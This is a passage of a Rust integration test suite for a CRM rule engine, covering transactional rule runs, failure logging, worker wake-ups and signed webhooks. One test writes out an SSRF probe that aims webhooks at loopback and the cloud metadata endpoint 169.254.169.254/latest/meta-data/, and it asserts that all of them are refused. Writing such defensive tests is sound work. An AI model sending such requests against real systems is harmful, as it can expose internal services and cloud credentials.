        ))
        .fetch_one(&app.pool)
        .await
        .expect("done");
        (n == 6).then_some(n)
    })
    .await;
    assert_eq!(done, 6);
    let runs = runs(&app, &t, &rid).await;
    assert_eq!(runs.len(), 6, "one run per event");
    assert!(runs.iter().all(|r| r["outcome"] == "succeeded"));
    let notified: i64 = sqlx::query_scalar(&format!(
        "SELECT count(*) FROM {schema}.notifications WHERE kind = 'rule'"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("notifications");
    if notified != 6 {
        let rows: Vec<(String, Option<uuid::Uuid>, chrono::DateTime<chrono::Utc>)> =
            sqlx::query_as(&format!(
                "SELECT title, record_id, created_at FROM {schema}.notifications ORDER BY id"
            ))
            .fetch_all(&app.pool)
            .await
            .expect("notifications");
        let jobs: Vec<(i64, String, String, i32, Option<String>)> = sqlx::query_as(&format!(
            "SELECT id, kind, status, attempts, last_error FROM {schema}.jobs ORDER BY id"
        ))
        .fetch_all(&app.pool)
        .await
        .expect("jobs");
        panic!("{notified} notifications: {rows:?}\nruns: {runs:?}\njobs: {jobs:?}");
    }
}

/// In a shared transaction the runs read their records ahead; a run after an effect that wrote
/// a record must still see that write. Two rules on the same event: one sets the level, the
/// other reports the level it sees — which must be the new one whenever it ran second.
#[tokio::test]
async fn runs_sharing_a_transaction_see_the_writes_of_the_runs_before_them() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let setter = rule(
        &app,
        &t,
        json!({"name": "定级", "object": "customers", "trigger": {"event": "customer.created"},
               "script": "set_field(\"level\", \"B\");"}),
    )
    .await;
    let reporter = rule(
        &app,
        &t,
        json!({"name": "报告级别", "object": "customers", "trigger": {"event": "customer.created"},
               "script": "notify(\"owner\", \"级别 \" + record.level);"}),
    )
    .await;
    hold_jobs(&app, &t).await;
    let mut ids = Vec::new();
    for i in 0..4 {
        ids.push(id(&customer(
            &app,
            &t,
            json!({"name": format!("定级客户{i}"), "level": "A"}),
        )
        .await));
    }
    release_jobs(&app, &t).await;
    let set = wait_runs(&app, &t, &id(&setter), 4).await;
    let reported = wait_runs(&app, &t, &id(&reporter), 4).await;
    for cid in &ids {
        let of = |runs: &[Value]| {
            runs.iter()
                .find(|r| r["record_id"] == json!(cid))
                .cloned()
                .expect("a run for each customer")
        };
        let (s, r) = (of(&set), of(&reported));
        assert_eq!(s["outcome"], "succeeded", "{s}");
        assert_eq!(r["outcome"], "succeeded", "{r}");
        let seen = r["effects"][0]["text"]
            .as_str()
            .expect("notify text")
            .to_owned();
        let expected = if r["id"].as_i64() > s["id"].as_i64() {
            "级别 B"
        } else {
            "级别 A"
        };
        assert_eq!(
            seen, expected,
            "reporter run {} / setter run {}",
            r["id"], s["id"]
        );
        let c = app
            .get(&format!("/api/v1/customers/{cid}"), &t.token)
            .await
            .expect(200);
        assert_eq!(c["level"], "B");
    }
}

/// A rule whose effect fails, among good rules sharing a transaction: the failure is logged as
/// that rule's failed run, and the good rule's effects happen once each.
#[tokio::test]
async fn a_failing_effect_in_a_shared_transaction_is_logged_as_a_failed_run() {
    let app = TestApp::spawn().await;
    let t = app.signup().await;
    let schema = app.schema_of(&t).await;
    let good = rule(
        &app,
        &t,
        json!({"name": "通知", "object": "customers", "trigger": {"event": "customer.created"},
               "script": "notify(\"owner\", \"新客户 \" + record.name);"}),
    )
    .await;
    let bad = rule(
        &app,
        &t,
        json!({"name": "坏规则", "object": "customers", "trigger": {"event": "customer.created"},
               "script": "set_field(\"no_such_field\", 1);"}),
    )
    .await;
    hold_jobs(&app, &t).await;
    for i in 0..3 {
        customer(&app, &t, json!({"name": format!("客户{i}")})).await;
    }
    release_jobs(&app, &t).await;
    let good_runs = wait_runs(&app, &t, &id(&good), 3).await;
    let bad_runs = wait_runs(&app, &t, &id(&bad), 3).await;
    assert!(good_runs.iter().all(|r| r["outcome"] == "succeeded"));
    for r in &bad_runs {
        assert_eq!(r["outcome"], "failed", "{r}");
        assert!(
            r["error"]["message"]
                .as_str()
                .unwrap_or_default()
                .contains("no_such_field"),
            "{r}"
        );
    }
    let notified: i64 = sqlx::query_scalar(&format!(
        "SELECT count(*) FROM {schema}.notifications WHERE kind = 'rule'"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("notifications");
    assert_eq!(notified, 3);
    // The failed runs are failed rule runs, not failed jobs: every job is done.
    let left: i64 = sqlx::query_scalar(&format!(
        "SELECT count(*) FROM {schema}.jobs WHERE kind = 'rule.run' AND status <> 'done'"
    ))
    .fetch_one(&app.pool)
    .await
    .expect("jobs");
    assert_eq!(left, 0);
}

/// The worker does not wait for its poll: the commit that makes a job due wakes it
/// (`NOTIFY crm_jobs`). With the poll at an hour, the rule still runs right after the event.
#[tokio::test]
async fn a_committed_event_wakes_the_worker_without_waiting_for_its_poll() {
    let app = TestApp::spawn_with(|c| c.jobs_poll_ms = 3_600_000).await;
    let t = app.signup().await;
    let r = rule(
        &app,
        &t,
        json!({
            "name": "新客户回访",
            "object": "customers",
            "trigger": {"event": "customer.created"},
            "script": r#"create_task(#{title: "回访 " + record.name, due_in: "1d"});"#,
        }),
    )
    .await;
    customer(&app, &t, json!({"name": "北京星河科技有限公司"})).await;
    let done = wait_runs(&app, &t, &id(&r), 1).await;
    assert_eq!(done[0]["outcome"], "succeeded", "{}", done[0]);
}

/// A tenant admin cannot point webhooks at the platform's own network: loopback and the
/// cloud metadata address are refused before any connection, whatever the port (an open
/// and a closed port fail alike, so the job log is no port scanner).
#[tokio::test]
async fn webhooks_cannot_reach_the_platforms_own_network() {
    let (url, port, got) = webhook_sink().await;
    let app = reaching(vec![port, 1], false).await;
    let t = app.signup().await;
    app.call(
        reqwest::Method::PUT,
        "/api/v1/settings/workflows",
        Some(&t.token),
        Some(json!({"webhook_hosts": ["127.0.0.1", "169.254.169.254"], "failure_limit": 5})),
    )
    .await
    .expect(200);
    rule(
        &app,
        &t,
        json!({
            "name": "内网探测",
            "object": "customers",
            "trigger": {"event": "customer.created"},
            "script": format!(r#"
                webhook("{url}/open", #{{n: 1}});
                webhook("http://127.0.0.1:1/closed", #{{n: 2}});
                webhook("http://169.254.169.254:{port}/latest/meta-data/", #{{n: 3}});
            "#),
        }),
    )
    .await;
    customer(&app, &t, json!({"name": "探针"})).await;
    let dead = eventually("three refused webhook jobs", || async {
        let jobs = app
            .get("/api/v1/jobs?kind=webhook.send&status=dead", &t.token)
            .await
            .expect(200);
        let items = jobs["items"].as_array().cloned().unwrap_or_default();
        (items.len() == 3).then_some(items)
    })
    .await;
    for job in &dead {
        assert_eq!(
            job["last_error"], "webhook: refused: internal address",
            "{job}"
        );
        assert_eq!(job["attempts"], 1, "refused at once, never retried: {job}");
    }
    assert!(
        got.lock().expect("lock").is_empty(),
        "nothing reached the listener"
    );
}

/// Webhooks carry Standard Webhooks signatures, checked here as a receiver would: by an
/// independent implementation (Python's hmac) over the exact bytes received.
#[tokio::test]
async fn webhooks_are_signed_so_a_receiver_can_verify_them() {
    let (url, port, got) = webhook_sink().await;
    let app = reaching(vec![port], true).await;
    let t = app.signup().await;
    let (_, viewer) = app.user_with_roles(&t, &["viewer"]).await;
    app.post(
        "/api/v1/settings/workflows/webhook-secret",
        &viewer,
        json!({}),
    )
    .await
    .expect_problem(403, "auth.forbidden");
    app.call(
        reqwest::Method::PUT,
        "/api/v1/settings/workflows",
        Some(&t.token),
        Some(json!({"webhook_hosts": ["127.0.0.1"], "failure_limit": 5})),
    )
    .await
    .expect(200);
    let secret = app
        .post(
            "/api/v1/settings/workflows/webhook-secret",
            &t.token,
            json!({}),
        )
        .await
        .expect(200)["secret"]
        .as_str()
        .expect("secret")
        .to_owned();
    assert!(secret.starts_with("whsec_"), "{secret}");
    rule(
        &app,
        &t,
        json!({
            "name": "同步到 ERP",
            "object": "customers",
            "trigger": {"event": "customer.created"},
            "script": format!(r#"webhook("{url}/erp", #{{name: record.name}});"#),
        }),
    )
    .await;
    customer(&app, &t, json!({"name": "杭州云栖贸易"})).await;
    let (head, body) = eventually("the signed webhook", || async {
        got.lock().expect("lock").first().cloned()
    })
    .await;
    let signed =
        |name: &str| header(&head, name).unwrap_or_else(|| panic!("no {name} header in {head}"));
    let (id, timestamp, signature) = (
        signed("webhook-id"),
        signed("webhook-timestamp"),
        signed("webhook-signature"),
    );
    let verify = r#"
import base64, hashlib, hmac, sys, time
secret, msg_id, ts, sigs, body_path = sys.argv[1:6]
body = open(body_path, "rb").read()
key = base64.b64decode(secret.removeprefix("whsec_"))
expected = base64.b64encode(hmac.new(key, f"{msg_id}.{ts}.".encode() + body, hashlib.sha256).digest()).decode()
assert abs(time.time() - int(ts)) < 300, "stale timestamp"
assert any(s.split(",", 1)[1] == expected for s in sigs.split() if s.startswith("v1,")), "bad signature"
print("verified")
"#;
    let path = std::env::temp_dir().join(format!("webhook-{}.json", uuid::Uuid::new_v4()));
    std::fs::write(&path, &body).expect("write body");
    let check = |secret: &str| {
        std::process::Command::new("python3")
            .args(["-c", verify, secret, &id, &timestamp, &signature])
            .arg(&path)
            .output()
            .expect("python3")
    };
    let out = check(&secret);
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    // Another secret does not verify it.
    assert!(!check("whsec_c2VjcmV0LWJ1dC1ub3QtdGhlLXJpZ2h0LW9uZQ==")
        .status
        .success());
    let _ = std::fs::remove_file(&path);
}
